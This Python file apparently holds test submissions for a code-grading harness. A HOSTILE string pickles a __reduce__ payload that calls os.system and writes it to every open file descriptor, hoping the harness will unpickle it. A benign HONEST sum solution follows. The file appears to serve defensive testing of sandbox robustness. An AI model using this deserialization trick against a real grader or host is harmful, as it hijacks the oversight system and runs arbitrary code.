"""Writes a pickle that runs code when loaded on every open descriptor."""

KINDS = ["assert", "call", "check", "stdio", "pytest"]

HOSTILE = """
import os, pickle

class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/rlcode-attack-pickle",)

message = pickle.dumps(Payload())
for descriptor in range(3, 256):
    for framed in (message, len(message).to_bytes(4, "big") + message, len(message).to_bytes(4, "little") + message):
        try:
            os.write(descriptor, framed)
        except OSError:
            pass
os._exit(0)
"""

HONEST = """
import pickle

def total(numbers):
    return pickle.loads(pickle.dumps(sum(numbers)))

if __name__ == "__main__":
    print(total(map(int, input().split())))
"""
